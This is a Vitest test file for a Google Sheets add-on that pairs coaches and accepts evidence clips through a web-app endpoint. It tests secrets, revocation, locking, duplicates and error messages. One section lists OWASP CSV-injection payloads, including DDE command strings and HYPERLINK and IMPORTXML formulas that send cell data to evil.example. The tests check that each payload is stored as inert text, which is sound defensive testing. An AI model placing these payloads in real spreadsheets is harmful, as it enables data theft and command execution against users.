import { beforeAll, describe, expect, it } from 'vitest';
import { decodePairingCode } from '../../shared/pairing-code';
import { EVIDENCE_TAB } from '../../shared/owned-tabs';
import { loadAddon, type LoadedAddon } from './fake/load-addon';
import { ensureBuilt } from './fake/ensure-built';
import type { FakeSpreadsheet } from './fake/fake-spreadsheet';
import { KR_ID, NOW, planSimpleSpreadsheet } from './fixtures/plan-simple-world';
import { rowStartingWith, shown } from './fixtures/sheet-text';
import { confirmSetup } from './fixtures/confirm-setup';

beforeAll(ensureBuilt);

interface Reply {
  ok: boolean;
  kind?: string;
  accepted?: string[];
  duplicates?: string[];
  rejected?: { id: string; code: string; message: string }[];
  error?: { code: string; message: string; retryable: boolean };
  catalog?: { objectives: { keyResults: { id: string }[] }[] };
}

function connected(locale = 'en_US') {
  const spreadsheet = planSimpleSpreadsheet({ locale });
  const addon = loadAddon({ now: NOW, locale, world: { spreadsheet } });
  confirmSetup(addon.call);
  const result = addon.call('connectCoach', 'J. Singh') as {
    ok: true;
    code: string;
    coaches: { id: string; name: string }[];
  };
  const pairing = decodePairingCode(result.code);
  if (!pairing.ok) throw new Error('bad code');
  return {
    spreadsheet,
    addon,
    secret: pairing.pairing.secret,
    pairing: pairing.pairing,
    coachId: result.coaches[0].id,
  };
}

function post(addon: LoadedAddon, body: unknown): Reply {
  const output = addon.call('doPost', {
    postData: {
      contents: typeof body === 'string' ? body : JSON.stringify(body),
      type: 'text/plain',
    },
  }) as { getContent(): string; getMimeType(): string };
  expect(output.getMimeType()).toBe('application/json');
  return JSON.parse(output.getContent()) as Reply;
}

const item = (id: string, quote = `Observed: students compared fractions (${id}).`) => ({
  id,
  capturedAt: '2026-01-15T10:00:00Z',
  keyResultId: KR_ID.explain,
  school: 'Lakeshore Middle',
  practice: 'Using representations',
  type: 'observation',
  quote,
});
const clip = <T>(secret: string, items: T[]) => ({ v: 1, kind: 'clip', secret, items });

function evidenceIds(spreadsheet: FakeSpreadsheet): string[] {
  return shown(spreadsheet.sheet('Evidence')!)
    .slice(1)
    .map((line) => line[0])
    .filter(Boolean);
}

describe('Connect a coach', () => {
  it('gives a one-time code carrying the web app URL and a secret stored only as a hash', () => {
    const { addon, secret, pairing } = connected();
    expect(pairing.endpoint).toBe('https://script.google.com/macros/s/FAKE_DEPLOYMENT/exec');
    expect(pairing.coach).toBe('J. Singh');
    const stored = addon.world.scriptProperties.get('throughline.coaches') ?? '';
    expect(stored).not.toContain(secret);
    expect(JSON.parse(stored).coaches[0]).toMatchObject({ name: 'J. Singh', revokedAt: null });
  });

  it('asks to deploy the web app first when it has no URL', () => {
    const spreadsheet = planSimpleSpreadsheet();
    const addon = loadAddon({ now: NOW, world: { spreadsheet }, webAppUrl: null });
    expect(addon.call('connectCoach', 'A. Roy')).toMatchObject({
      ok: false,
      error: { code: 'no-web-app' },
    });
  });

  it('serves the catalog with the stable key-result ids', () => {
    const { addon, secret } = connected();
    const reply = post(addon, { v: 1, kind: 'catalog', secret });
    expect(reply.ok).toBe(true);
    expect(reply.catalog?.objectives[0].keyResults.map((kr) => kr.id)).toEqual([
      KR_ID.explain,
      KR_ID.coPlanning,
      KR_ID.grade6,
    ]);
  });

  it.each([
    ['a wrong secret', (s: string) => `${s}x`, 'unauthorized'],
    ['a missing secret', () => '', 'bad-request'],
  ])('writes nothing for %s', (_label, secretOf, code) => {
    const { spreadsheet, addon, secret } = connected();
    const reply = post(addon, clip(secretOf(secret), [item('clip-wrong1')]));
    expect(reply).toMatchObject({ ok: false, error: { code } });
    expect(spreadsheet.sheet('Evidence') ? evidenceIds(spreadsheet) : []).toEqual([]);
  });

  it('writes nothing for a revoked coach and says so', () => {
    const { spreadsheet, addon, secret, coachId } = connected();
    addon.call('revokeCoachById', coachId);
    const reply = post(addon, clip(secret, [item('clip-revoked')]));
    expect(reply).toMatchObject({ ok: false, error: { code: 'revoked', retryable: false } });
    expect(evidenceIds(spreadsheet)).toEqual([]);
    expect(
      (addon.call('listCoaches') as { coaches: { revokedAt: string | null }[] }).coaches[0]
        .revokedAt,
    ).toBe(NOW.replace('Z', '.000Z'));
  });
});

describe('Writing evidence through doPost', () => {
  it('appends new clips, answers replays as duplicates and schedules one debounced refresh', () => {
    const { spreadsheet, addon, secret } = connected();
    const first = post(addon, clip(secret, [item('clip-aaaa1'), item('clip-bbbb2')]));
    expect(first).toMatchObject({
      ok: true,
      accepted: ['clip-aaaa1', 'clip-bbbb2'],
      duplicates: [],
      rejected: [],
    });
    const replay = post(addon, clip(secret, [item('clip-aaaa1'), item('clip-bbbb2')]));
    expect(replay).toMatchObject({
      ok: true,
      accepted: [],
      duplicates: ['clip-aaaa1', 'clip-bbbb2'],
    });
    post(addon, clip(secret, [item('clip-cccc3')]));
    expect(evidenceIds(spreadsheet)).toEqual(['clip-aaaa1', 'clip-bbbb2', 'clip-cccc3']);
    expect(addon.world.triggers.filter((t) => t.fn === 'refreshAfterClips')).toHaveLength(1);
    addon.call('refreshAfterClips');
    expect(addon.world.triggers.filter((t) => t.fn === 'refreshAfterClips')).toEqual([]);
    const row = rowStartingWith(
      spreadsheet.sheet('Dashboard')!,
      '% of observed lessons where students explain their reasoning with a representation',
    );
    expect(row[9]).toBe('3');
  });

  it('replies busy (retryable) and writes nothing when the lock cannot be had', () => {
    const { spreadsheet, addon, secret } = connected();
    addon.world.lock.holder = {};
    const reply = post(addon, clip(secret, [item('clip-busy01')]));
    expect(reply).toMatchObject({ ok: false, error: { code: 'busy', retryable: true } });
    expect(evidenceIds(spreadsheet)).toEqual([]);
  });

  it('answers an unexpected failure with a retryable JSON error, not an HTML page', () => {
    const { spreadsheet, addon, secret } = connected();
    spreadsheet.sheet('Evidence')!.maxRows = 1; // appending past the edge fails inside Sheets
    spreadsheet.sheet('Evidence')!.insertRowsAfter = () => {
      throw new Error('Service Spreadsheets timed out');
    };
    const reply = post(addon, clip(secret, [item('clip-fail01')]));
    expect(reply).toMatchObject({ ok: false, error: { code: 'internal', retryable: true } });
    expect(reply.error?.message).toBe(
      'The spreadsheet could not take these clips just now. Nothing was written: they stay in your outbox and will be sent again.',
    );
    expect(evidenceIds(spreadsheet)).toEqual([]);
  });

  it('rejects an oversize clip with a clear error and keeps the rest of the batch', () => {
    const { spreadsheet, addon, secret } = connected();
    const reply = post(
      addon,
      clip(secret, [item('clip-huge01', 'x'.repeat(20_001)), item('clip-small1')]),
    );
    expect(reply.accepted).toEqual(['clip-small1']);
    expect(reply.rejected?.[0]).toMatchObject({ id: 'clip-huge01', code: 'too-large' });
    expect(evidenceIds(spreadsheet)).toEqual(['clip-small1']);
  });

  it('50 interleaved clip requests produce exactly the unique rows', () => {
    const { spreadsheet, addon, secret } = connected();
    const bodies = Array.from({ length: 50 }, (_, i) =>
      clip(
        secret,
        [0, 1, 2].map((k) => item(`clip-${String((i * 7 + k * 13) % 80).padStart(4, '0')}`)),
      ),
    );
    const unique = new Set(bodies.flatMap((b) => b.items.map((x) => x.id)));
    const pending = [...bodies];
    const replies: Reply[] = [];
    let seed = 7;
    let depth = 0;
    let busy = 0;
    const send = (body: (typeof bodies)[number]) => {
      depth++;
      const reply = post(addon, body);
      depth--;
      if (!reply.ok && reply.error?.code === 'busy') {
        busy++;
        pending.push(body);
      } else replies.push(reply);
    };
    // Another request starts in the middle of a running one, at pseudo-random service calls.
    addon.world.log.afterCall = () => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      if (depth < 3 && pending.length > 0 && seed % 5 === 0) send(pending.shift()!);
    };
    while (pending.length > 0) send(pending.shift()!);
    addon.world.log.afterCall = undefined;
    expect(busy).toBeGreaterThan(0);
    const ids = evidenceIds(spreadsheet);
    expect(ids).toHaveLength(unique.size);
    expect(new Set(ids)).toEqual(unique);
    expect(replies.flatMap((r) => r.accepted ?? []).sort()).toEqual([...unique].sort());
    const replays = bodies.map((b) => post(addon, b));
    expect(
      replays.every((r) => r.ok && r.accepted?.length === 0 && r.duplicates?.length === 3),
    ).toBe(true);
    expect(evidenceIds(spreadsheet)).toHaveLength(unique.size);
    // Scheduled inside the lock: the interleaved burst left one pending refresh, not one per request.
    expect(addon.world.triggers.filter((t) => t.fn === 'refreshAfterClips')).toHaveLength(1);
  });

  it('two clip requests overlapping while the first looks for a pending refresh still schedule one', () => {
    const { addon, secret } = connected();
    let second = true;
    addon.world.log.afterCall = (name) => {
      if (name !== 'ScriptApp.getProjectTriggers' || !second) return;
      second = false;
      post(addon, clip(secret, [item('clip-overlap2')])); // arrives while the first request checks the triggers
    };
    post(addon, clip(secret, [item('clip-overlap1')]));
    addon.world.log.afterCall = undefined;
    expect(addon.world.triggers.filter((t) => t.fn === 'refreshAfterClips')).toHaveLength(1);
  });

  it('a clip arriving after the pending refresh started schedules the next one, so it is never left out', () => {
    const { addon, secret } = connected();
    post(addon, clip(secret, [item('clip-first1')]));
    addon.call('refreshAfterClips');
    const afterClips = () => addon.world.triggers.filter((t) => t.fn === 'refreshAfterClips');
    expect(afterClips()).toEqual([]);
    post(addon, clip(secret, [item('clip-later1')]));
    post(addon, clip(secret, [item('clip-later2')]));
    expect(afterClips().map((t) => [t.fn, t.kind, t.afterMs])).toEqual([
      ['refreshAfterClips', 'once', 60_000],
    ]);
  });

  it('gives rows that clips add past the sheet’s end the same dropdowns as the rows above', () => {
    const { spreadsheet, addon, secret } = connected();
    const evidence = spreadsheet.sheet('Evidence')!;
    evidence.maxRows = 3; // a tab whose 1,000 rows are full
    post(
      addon,
      clip(
        secret,
        ['clip-grow01', 'clip-grow02', 'clip-grow03', 'clip-grow04'].map((id) => item(id)),
      ),
    );
    expect(evidence.maxRows).toBeGreaterThanOrEqual(5); // grown by a chunk, so the next batches need not grow it
    const typeCol = EVIDENCE_TAB.columns.findIndex((c) => c.key === 'type') + 1;
    const rule = evidence.validationAt(5, typeCol) as { list: string[] } | null;
    expect(rule?.list).toContain('observation');
    expect(evidence.validationAt(5, typeCol)).toBe(evidence.validationAt(2, typeCol));
  });
});

// OWASP "CSV Injection" payloads: each must land as the text it is, never as a formula.
const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for more")',
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "A1:Z99")',
  '\t=1+1',
  '\r=1+1',
  '+1',
  '-1',
  '@user',
];

describe('Untrusted text', () => {
  it('never becomes a formula on the generated tabs, even as a practice or school name', () => {
    const { spreadsheet, addon, secret } = connected();
    const items = OWASP_PAYLOADS.map((payload, i) => ({
      ...item(`clip-gen${String(i).padStart(3, '0')}`, payload),
      practice: payload,
      school: payload,
    }));
    expect(post(addon, clip(secret, items)).accepted).toHaveLength(OWASP_PAYLOADS.length);
    addon.call('refreshAfterClips');
    for (const name of ['Dashboard', 'Summary']) {
      const formulas = spreadsheet
        .sheet(name)!
        .cells.flat()
        .map((cell) => cell.formula)
        .filter((f): f is string => Boolean(f));
      expect(formulas.filter((f) => !/^=(SPARKLINE\(\{|HYPERLINK\("#gid=)/.test(f))).toEqual([]);
    }
    const header = shown(spreadsheet.sheet('Dashboard')!).find((line) => line[0] === 'School');
    expect(header).toContain("=cmd|' /C calc'!A0");
  });

  it.each(OWASP_PAYLOADS.map((p) => [JSON.stringify(p), p]))(
    '%s lands as inert text',
    (_label, payload) => {
      const { spreadsheet, addon, secret } = connected();
      const reply = post(
        addon,
        clip(secret, [
          {
            ...item('clip-owasp1', payload),
            note: payload,
            sourceTitle: payload,
            heading: payload,
          },
        ]),
      );
      expect(reply.accepted).toEqual(['clip-owasp1']);
      const evidence = spreadsheet.sheet('Evidence')!;
      const row = evidence.cells[1];
      expect(row.filter((cell) => cell.formula)).toEqual([]);
      // A carriage return is stored as a line feed, whatever the host (see shared/storable-text.ts).
      for (const col of [8, 9, 10, 12])
        expect(row[col].value).toBe(payload.replace(/\r\n?/g, '\n'));
    },
  );
});

describe('Every web-app answer is a clear, translated message with a stable code', () => {
  it('words a failed catalog for a catalog, without the JavaScript error text', () => {
    const { addon, secret } = connected('fr_FR');
    for (const key of [...addon.world.documentProperties.keys()])
      if (key.startsWith('throughline.catalog')) addon.world.documentProperties.delete(key);
    addon.world.spreadsheet.getSheets = () => {
      throw new TypeError('Cannot read properties of undefined (reading "getName")');
    };
    const reply = post(addon, { v: 1, kind: 'catalog', secret });
    expect(reply).toMatchObject({ ok: false, error: { code: 'internal', retryable: true } });
    expect(reply.error?.message).toMatch(/^Le plan n’a pas pu être lu pour l’instant/);
    expect(reply.error?.message).not.toMatch(/Cannot read|getName|enregistré/);
  });

  it('answers GET with JSON even when the spreadsheet fails', () => {
    const { addon } = connected();
    addon.world.documentProperties.get = () => {
      throw new Error('Service unavailable: Properties');
    };
    const output = addon.call('doGet') as { getContent(): string; getMimeType(): string };
    expect(output.getMimeType()).toBe('application/json');
    expect(JSON.parse(output.getContent())).toMatchObject({
      ok: false,
      error: { code: 'internal', retryable: true },
    });
    expect(output.getContent()).not.toContain('Service unavailable');
  });

  it('tells the coordinator to try again when Connect a coach or Settings meet a busy spreadsheet, and changes nothing', () => {
    const { addon } = connected();
    const triggersBefore = addon.world.triggers.map((t) => t.id);
    addon.world.lock.holder = {};
    const connect = addon.call('connectCoach', 'A. Roy') as {
      ok: boolean;
      error: { code: string; message: string };
    };
    expect(connect).toMatchObject({ ok: false, error: { code: 'busy' } });
    expect(connect.error.message).toMatch(
      /^The spreadsheet is busy saving something else.*try again in a few seconds\.$/,
    );
    const settings = addon.call('saveSettings', {
      autoRefresh: false,
      pacing: { onTrackMargin: 0.1, atRiskMargin: 0.2, staleAfterDays: 30 },
    }) as { ok: boolean; code: string; message: string };
    expect(settings).toMatchObject({ ok: false, code: 'busy' });
    expect(addon.world.triggers.map((t) => t.id)).toEqual(triggersBefore);
    expect(addon.world.documentProperties.has('throughline.pacing')).toBe(false);
  });

  it.each(['yesterday-ish!', '2026-02-30T10:00:00Z', '15/01/2026', 'Monday'])(
    'refuses a capture time of %o, which would sort first in the Summary',
    (capturedAt) => {
      const { spreadsheet, addon, secret } = connected();
      const reply = post(addon, clip(secret, [{ ...item('clip-when01'), capturedAt }]));
      expect(reply.rejected?.[0]).toMatchObject({ id: 'clip-when01', code: 'invalid-item' });
      expect(reply.rejected?.[0].message).toContain('capturedAt');
      expect(spreadsheet.sheet('Evidence') ? evidenceIds(spreadsheet) : []).toEqual([]);
    },
  );
});
